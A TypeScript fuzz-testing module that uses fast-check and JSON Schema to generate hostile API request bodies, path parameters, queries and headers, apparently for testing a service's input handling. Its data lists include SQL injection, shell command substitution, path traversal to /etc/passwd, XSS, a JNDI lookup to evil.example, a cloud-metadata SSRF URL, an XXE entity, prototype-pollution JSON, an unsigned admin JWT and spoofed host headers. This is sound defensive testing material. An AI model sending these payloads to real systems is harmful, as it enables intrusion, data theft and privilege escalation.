import fc from "fast-check";

/** The parts of JSON Schema that zod writes. */
interface Schema {
  readonly type?: string | readonly string[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly items?: Schema;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
  readonly allOf?: readonly Schema[];
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly $ref?: string;
  readonly format?: string;
  readonly minimum?: number;
  readonly minItems?: number;
}

/** What is tried wherever a text may stand: what breaks queries, shells, paths, pages, logs and parsers. */
const injections = [
  "' OR '1'='1' --",
  "x'; DROP TABLE person; --",
  '"; SELECT * FROM sign_in; --',
  "1 UNION SELECT org_id, name, 1 FROM organisation",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2f",
  "file:///etc/passwd",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "{{7*7}}",
  "$".concat("{7*7}"),
  "$(id)",
  "`id`; sleep 9 |",
  "\r\nSet-Cookie: sotto=x\r\n\r\n<html>",
  "\u0000",
  "a\u0000b",
  "\u202egnp.exe",
  "\ud800",
  "\ufeff",
  "e\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦".repeat(20),
  "A".repeat(5000),
  "(".repeat(2000),
  "__proto__",
  "constructor",
  "null",
  "NaN",
  "-1",
  "1e309",
  "9".repeat(400),
  "true",
  "http://169.254.169.254/latest/meta-data/",
  "jndi:ldap://evil.example/a",
  "*)(uid=*",
  '{"$gt":""}',
  "2026-13-45T99:99:99Z",
];

const text = fc.oneof(
  { arbitrary: fc.constantFrom(...injections), weight: 3 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 60 }), weight: 1 },
);

const wrong = fc.oneof(
  text,
  fc.constantFrom<unknown>(null, true, 0, -1, 1e21, 0.1, Number.MAX_SAFE_INTEGER, [], {}, [[[[[]]]]]),
  fc.jsonValue({ maxDepth: 3 }),
);

/** JSON text, so that keys can stand in it that no object literal can have. */
const pollution = [
  '{"__proto__":{"role":"ADMIN","isAdmin":true}}',
  '{"constructor":{"prototype":{"role":"ADMIN"}}}',
  '{"toString":"x","hasOwnProperty":1,"valueOf":null}',
];

/** A value that fits a schema, or nearly: enough that what lies behind the first check is reached too. */
const fitting = (schema: Schema, lookUp: (ref: string) => Schema, depth = 0): fc.Arbitrary<unknown> => {
  if (schema.$ref !== undefined) return fitting(lookUp(schema.$ref), lookUp, depth + 1);
  if (depth > 12) return wrong;
  if ("const" in schema) return fc.constant(schema.const);
  if (schema.enum !== undefined && schema.enum.length > 0) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices !== undefined && choices.length > 0) {
    return fc.oneof(...choices.map((one) => fitting(one, lookUp, depth + 1)));
  }
  switch (Array.isArray(schema.type) ? schema.type[0] : schema.type) {
    case "object":
      return fc.record(
        Object.fromEntries(
          Object.entries(schema.properties ?? {}).map(([name, inner]) => [name, fitting(inner, lookUp, depth + 1)]),
        ),
      );
    case "array":
      return fc.array(fitting(schema.items ?? {}, lookUp, depth + 1), {
        minLength: schema.minItems ?? 0,
        maxLength: 3,
      });
    case "integer":
      return fc.integer({ min: Math.max(schema.minimum ?? 0, -1000), max: 1_000_000 });
    case "number":
      return fc.double({ noNaN: true, min: 0, max: 1000 });
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    default:
      if (schema.format === "uuid") return fc.uuid();
      if (schema.format === "date-time") return fc.constant(new Date(0).toISOString());
      return text;
  }
};

/** The same with one of its places changed to something else. */
const spoiled = (value: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
  fc.tuple(value, wrong, fc.nat(), fc.boolean()).map(([whole, other, at, removed]) => {
    if (typeof whole !== "object" || whole === null) return other;
    const copy: Record<string, unknown> = { ...whole };
    const names = Object.keys(copy);
    const name = names[at % Math.max(1, names.length)] ?? "extra";
    if (removed) delete copy[name];
    else copy[name] = other;
    return at % 5 === 0 ? { ...copy, orgId: "another", role: "ADMIN", personId: "somebody" } : copy;
  });

/** Bodies for an operation: such as fit, such as nearly do, and such as no parser should see. */
export const hostileBodies = (schema: Schema | null, lookUp: (ref: string) => Schema): fc.Arbitrary<string> => {
  const raw = fc.constantFrom(
    ...pollution,
    "",
    "{",
    "null",
    "[]",
    '"text"',
    "1e999",
    '{"a":1,"a":2}',
    `${"[".repeat(30_000)}${"]".repeat(30_000)}`,
    `{"a":"${"x".repeat(100_000)}"}`,
    "\ufeff{}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "a=b&c=d",
  );
  if (schema === null) return raw;
  const fits = fitting(schema, lookUp);
  return fc.oneof(
    { arbitrary: raw, weight: 1 },
    { arbitrary: spoiled(fits).map((value) => JSON.stringify(value)), weight: 4 },
    { arbitrary: fits.map((value) => JSON.stringify(value)), weight: 2 },
    { arbitrary: wrong.map((value) => JSON.stringify(value) ?? ""), weight: 1 },
  );
};

/** A path parameter: encoded as a client would, or as an attacker would. */
export const hostileParam = fc.oneof(
  text.map((value) => {
    try {
      return encodeURIComponent(value).slice(0, 3000);
    } catch {
      return "%ED%A0%80";
    }
  }),
  fc.constantFrom("..", ".", "%00", "%2e%2e%2f", "%E0%A4%A", "%F0%9F%92%A9", "%252e%252e%252f", "a;b=c", "x%0d%0ay"),
);

/** A query: names that are known or not, once or again, with anything behind them. */
export const hostileQuery = (names: readonly string[]): fc.Arbitrary<string> =>
  fc
    .array(
      fc.tuple(
        fc.oneof(fc.constantFrom(...names, "a[]", "a[b]", "__proto__", "orgId", "role"), text),
        fc.oneof(text, fc.constantFrom("1", "0", "-1", "20")),
      ),
      { maxLength: 4 },
    )
    .map((pairs) =>
      pairs.length === 0
        ? ""
        : `?${pairs
            .map(
              ([name, value]) =>
                `${encodeURIComponent(name.toWellFormed())}=${encodeURIComponent(value.toWellFormed())}`,
            )
            .join("&")}`,
    );

/** Headers that lie about who asks, what comes and whence. */
export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.constantFrom<Record<string, string>[]>(
  {},
  {},
  {},
  { "content-type": "text/plain" },
  { "content-type": "application/json; charset=utf-7" },
  { "content-type": "application/x-www-form-urlencoded" },
  { "content-type": "multipart/form-data; boundary=x" },
  { "content-type": "application/xml" },
  { authorization: "Bearer x.y.z" },
  { authorization: "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJBRE1JTiJ9." },
  { authorization: "Basic YWRtaW46YWRtaW4=" },
  { "x-sotto-person": "somebody", "x-sotto-role": "ADMIN" },
  { "x-forwarded-for": "127.0.0.1", "x-forwarded-host": "evil.example", "x-original-url": "/api/admin" },
  { "x-http-method-override": "DELETE" },
  { upgrade: "websocket", "sec-websocket-key": "x" },
  { "idempotency-key": '"' },
  { "idempotency-key": "a".repeat(4000) },
  { "if-none-match": "*", range: "bytes=0-18446744073709551615" },
  { range: "bytes=-1,0-0,5-2" },
  { "accept-language": "x".repeat(4000), accept: "../../etc/passwd" },
  { origin: "https://evil.example" },
  { origin: "null" },
  { "sec-fetch-site": "cross-site" },
  { "content-length": "-5" },
  { host: "evil.example" },
);
